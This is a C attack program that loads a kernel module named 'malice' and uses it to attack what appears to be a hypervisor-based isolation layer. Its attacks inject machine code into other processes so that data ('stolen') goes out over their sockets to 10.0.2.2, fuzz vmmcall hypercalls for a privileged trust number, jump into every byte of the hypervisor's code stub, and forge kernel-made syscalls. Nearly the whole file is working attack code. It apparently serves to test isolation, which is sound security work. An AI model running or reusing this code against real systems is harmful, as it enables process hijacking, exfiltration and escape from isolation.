/* Loads the kernel module `malice` (`load FILE`), asks it for one attack and prints what came of it;
   makes the hypercalls of ring 3 itself. Runs untrusted, as root.

   cc -O2 -static attack.c; run with GLIBC_TUNABLES=glibc.pthread.rseq=0, since the kernel writes
   there while other address spaces are loaded. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <setjmp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <ucontext.h>
#include <unistd.h>
#include "malice.h"

enum { TEXT_AT = 448, ADDRESS_AT = 480 };
#define TRUST 0x5452415000000001UL

static const unsigned char SYSCALL[] = {0x0f, 0x05}, VMMCALL[] = {0x0f, 0x01, 0xd9};
static int device;

static long ask(const struct request *request) {
    long result;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(SYS_write), "D"((long)device), "S"(request), "d"(sizeof *request)
                     : "rcx", "r11", "memory");
    return result;
}

static unsigned char *put(unsigned char *at, const void *bytes, int length) {
    memcpy(at, bytes, length);
    return at + length;
}

/* mov register, imm64 */
static unsigned char *load(unsigned char *at, unsigned char code, unsigned long value) {
    *at++ = 0x48;
    *at++ = code;
    return put(at, &value, 8);
}

enum { RAX = 0xb8, RDX = 0xba, RSI = 0xbe, RDI = 0xbf, STORE_RAX = 0xa3 };

/* Code that makes one call, and tells the module what it answered. */
static void write_code(struct request *request, const unsigned char *how, int length, const unsigned long call[4]) {
    static const unsigned char clear[] = {0x4d, 0x31, 0xd2, 0x4d, 0x31, 0xc0, 0x4d, 0x31, 0xc9};
    unsigned char *at = request->code;
    at = load(load(load(load(at, RAX, call[0]), RDI, call[1]), RSI, call[2]), RDX, call[3]);
    at = put(put(at, clear, sizeof clear), how, length);
    at = load(at, STORE_RAX, RIDE_AT + RIDE_DONE + 8);
    at = load(load(at, RAX, SYS_write), RDI, device);
    at = load(load(at, RSI, RIDE_AT + RIDE_DONE), RDX, sizeof *request);
    put(put(at, SYSCALL, 2), "\xeb\xfe", 2);
}

/* A call on a socket with foreign code: the program's connection, or an own socket. */
static long ride(int mode, int pid, int fd, int port) {
    struct request request = {.what = RIDE, .pid = pid, .a = mode};
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = inet_addr("10.0.2.2")};
    unsigned long send[4] = {SYS_sendto, fd, RIDE_AT + TEXT_AT, 7};
    unsigned long connect[4] = {SYS_connect, fd, RIDE_AT + ADDRESS_AT, sizeof to};
    write_code(&request, SYSCALL, 2, port ? connect : send);
    memcpy(request.code + TEXT_AT, "stolen\n", 7);
    memcpy(request.code + ADDRESS_AT, &to, sizeof to);
    return ask(&request);
}

/* Asks to be trusted, each time with another page-table root; answers how often that was granted. */
static long many(int count) {
    long granted = 0;
    struct request request = {.what = RIDE, .a = OWN};
    write_code(&request, VMMCALL, 3, (unsigned long[4]){TRUST});
    for (int n = 0; n < count; n++) granted += ask(&request) == 0;
    return granted;
}

static void step_over(int signal, siginfo_t *info, void *context) {
    (void)signal, (void)info;
    ((ucontext_t *)context)->uc_mcontext.gregs[REG_RIP] += sizeof VMMCALL;
}

/* Answers how many numbers were answered. */
static long hypercalls(void) {
    struct sigaction action = {.sa_sigaction = step_over, .sa_flags = SA_SIGINFO};
    long answered = 0;
    sigaction(SIGILL, &action, NULL);
    for (unsigned long n = 0; n < 4096; n++) {
        unsigned long number = n < 2048 ? TRUST - 1 + n / 16 : (unsigned long)random() << 33 ^ random(), result = number;
        __asm__ volatile("vmmcall"
                         : "+a"(result)
                         : "D"(n & 2 ? RIDE_AT : random()), "S"(random()), "d"(n & 1 ? -1UL : n)
                         : "memory");
        answered += result != number;
    }
    return answered;
}

static sigjmp_buf back;

static void jump_back(int signal) { siglongjmp(back, signal); }

static void jump_to(unsigned long place, int fd, const void *to, long length) {
    register long count __asm__("r10") = 0;
    __asm__ volatile("lea 1f(%%rip), %%rcx\n\tmov $0x246, %%r11d\n\tjmp *%[place]\n\tsyscall\n1:"
                     : : [place] "r"(place), "a"((long)SYS_connect), "D"((long)fd), "S"(to), "d"(length), "r"(count)
                     : "rcx", "r11", "memory");
}

/* Jumps to every byte of the hypervisor's page of code, as a program, as if to connect; answers how often it
   came back without a signal. */
static long anywhere(int port) {
    static char stack[65536];
    stack_t other = {.ss_sp = stack, .ss_size = sizeof stack};
    struct sigaction action = {.sa_handler = jump_back, .sa_flags = SA_ONSTACK | SA_NODEFER};
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = inet_addr("10.0.2.2")};
    struct request request = {.what = SHOW_STUB};
    volatile long through = 0;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    sigaltstack(&other, NULL);
    for (int n = 1; n < 32; n++) sigaction(n, &action, NULL);
    if (ask(&request)) return -1;
    for (volatile unsigned long at = 0; at < 4096; at++) {
        if (sigsetjmp(back, 1)) continue;
        jump_to(RIDE_AT + at, fd, &to, sizeof to);
        through++;
    }
    request.what = HIDE_STUB;
    ask(&request);
    return through;
}

/* A call made by the kernel from the stub's exit, as if this program had made it. */
static long forged(int number, int port, long back_by) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = inet_addr("10.0.2.2")};
    struct request request = {.what = JUMP};
    unsigned long words[5] = {number, socket(AF_INET, SOCK_STREAM, 0), (unsigned long)&to, sizeof to, back_by};
    memcpy(request.code, words, sizeof words);
    return ask(&request);
}

int main(int count, char **words) {
    long number[6] = {0};
    for (int n = 2; n < count && n < 7; n++) number[n - 1] = strtol(words[n], NULL, 0);
    if (count > 2 && !strcmp(words[1], "load")) {
        int failed = syscall(SYS_finit_module, open(words[2], O_RDONLY), "", 0);
        if (failed) perror(words[2]);
        return failed != 0;
    }
    /* A number that no victim has. */
    device = fcntl(open("/proc/malice", O_WRONLY), F_DUPFD, 900);
    if (count < 2 || device < 0) return 1;
    long result;
    if (!strcmp(words[1], "hypercalls")) {
        result = hypercalls();
    } else if (!strcmp(words[1], "many")) {
        result = many(number[1]);
    } else if (!strcmp(words[1], "ride")) {
        /* ride MODE PID FD sends; ride MODE PID FD PORT connects a socket of its own of that number */
        if (number[4]) dup2(socket(AF_INET, SOCK_STREAM, 0), number[3]);
        result = ride(number[1], number[2], number[3], number[4]);
    } else if (!strcmp(words[1], "anywhere")) {
        result = anywhere(number[1]);
    } else if (!strcmp(words[1], "forged")) {
        result = forged(number[1], number[2], number[3]);
    } else {
        struct request request = {.what = number[1], .pid = number[2], .a = number[3]};
        memcpy(request.code, &number[4], sizeof number[4]);
        result = ask(&request);
    }
    printf("%ld\n", result);
    return 0;
}
